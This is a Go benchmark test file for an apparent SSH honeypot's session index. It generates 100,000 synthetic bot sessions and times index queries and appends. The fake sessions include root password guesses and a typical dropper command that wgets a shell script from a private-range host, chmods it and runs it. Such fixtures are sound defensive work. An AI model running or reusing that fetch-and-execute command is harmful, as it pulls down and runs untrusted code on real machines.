package index

import (
	"context"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/sandtrap/sandtrap/internal/evidence"
)

// benchSessions is how many sessions the benchmarks have.
const benchSessions = 100_000

// usual is a session like those that bots have.
func usual(r *rand.Rand, n int) evidence.Session {
	start := march.Add(time.Duration(n) * 5 * time.Minute) // a year for 100,000
	end := start.Add(time.Duration(r.IntN(300)) * time.Second)
	s := evidence.Session{
		Version: evidence.Version, ID: idAt(start, uint64(n)), State: evidence.StateClosed, Start: start, End: &end,
		Source: evidence.Endpoint{IP: netip.AddrFrom4([4]byte{10, byte(r.IntN(256)), byte(r.IntN(256)), byte(r.IntN(256))}).String(), Port: 40000},
		Local:  evidence.Endpoint{IP: "192.0.2.1", Port: 22}, ClientVersion: "SSH-2.0-Go", HASSH: "0a07365cc01fa9fc82608ba4019af499",
		Target: evidence.Target{Name: "debian", Container: "c", Image: "localhost/sandtrap-debian", Account: "root"},
	}
	for range 3 {
		s.Attempts = append(s.Attempts, evidence.Attempt{Time: start, User: "root", Method: "password", Password: evidence.Text(fmt.Sprint(r.IntN(10000)))})
	}
	s.Login = s.Attempts[2].Login()
	c := evidence.Channel{Kind: "shell", Terminal: "xterm", Start: start, End: &end}
	for range 5 {
		c.Commands = append(c.Commands, evidence.Command{Time: start, Text: evidence.Text(fmt.Sprintf("cd /tmp; wget http://10.%d.%d.1/%x.sh; chmod 777 *; sh %d", r.IntN(256), r.IntN(256), r.Uint64(), n))})
	}
	c.Transfers = []evidence.Transfer{{Time: start, Name: "x", SHA256: hash(r)}}
	s.Channels = []evidence.Channel{c}
	return s
}

// benchStore is a store with 100,000 sessions in the index, which on disk have
// directories and nothing in them. SANDTRAP_BENCH_STATE keeps it, with whole sessions.
func benchStore(b *testing.B) *evidence.Store {
	state := os.Getenv("SANDTRAP_BENCH_STATE")
	whole := state != ""
	if !whole {
		state = b.TempDir()
	}
	file := filepath.Join(state, directory, fileName)
	store, err := evidence.Open(state)
	ok(b, err)
	b.Cleanup(func() { store.Close() })
	if _, err := os.Stat(file); err == nil {
		return store
	}
	r := rand.New(rand.NewPCG(1, 2))
	index := []byte(header)
	for i := range benchSessions {
		s := usual(r, i)
		if whole {
			put(b, store, s, "")
			continue
		}
		e := Summarise("", s, nil)
		record, err := appendEntry(nil, &e)
		ok(b, err)
		index = appendRecord(index, record)
		ok(b, os.MkdirAll(filepath.Join(state, "sessions", s.Start.Format("2006/01/02"), s.ID), 0o750))
	}
	if whole {
		_, _, err = Rebuild(context.Background(), store, nil)
		ok(b, err)
		return store
	}
	ok(b, os.MkdirAll(filepath.Dir(file), 0o750))
	ok(b, os.WriteFile(file, index, 0o640))
	return store
}

// BenchmarkQuery asks 100,000 sessions.
func BenchmarkQuery(b *testing.B) {
	store := benchStore(b)
	user := "nobody"
	for _, c := range []struct {
		name  string
		f     Filter
		limit int
		want  int
	}{
		{"all", Filter{}, 0, benchSessions},
		{"newest", Filter{}, 20, 20},
		{"command", Filter{Command: "sh 77777"}, 0, 1},
		{"user", Filter{User: &user}, 0, 0},
		{"source", Filter{Source: []netip.Prefix{netip.MustParsePrefix("10.7.0.0/16")}}, 0, -1},
		{"artifact", Filter{Artifact: "0001010100"}, 0, -1},
		{"week", Filter{Since: march.Add(348 * 24 * time.Hour), Until: march.Add(355 * 24 * time.Hour)}, 0, -1},
	} {
		b.Run(c.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				q, err := Query(context.Background(), store, c.f, Options{Limit: c.limit})
				if err != nil || q.Index != nil || q.Read != 0 || c.want >= 0 && len(q.Entries) != c.want {
					b.Fatalf("%d sessions, %d read, %v, %v", len(q.Entries), q.Read, q.Index, err)
				}
			}
		})
	}
}

// BenchmarkAdd is what a session that ends costs, off the attacker's path.
func BenchmarkAdd(b *testing.B) {
	store := openStore(b, b.TempDir())
	s := usual(rand.New(rand.NewPCG(1, 2)), 1)
	put(b, store, s, "")
	k := keeperOf(store)
	ok(b, k.update(context.Background(), true))
	var dir string
	ok(b, store.Directories(context.Background(), noTime, noTime, nil, func(d string) bool { dir = d; return false }))
	for b.Loop() {
		ok(b, k.append(context.Background(), []string{dir}))
	}
	k.close()
}
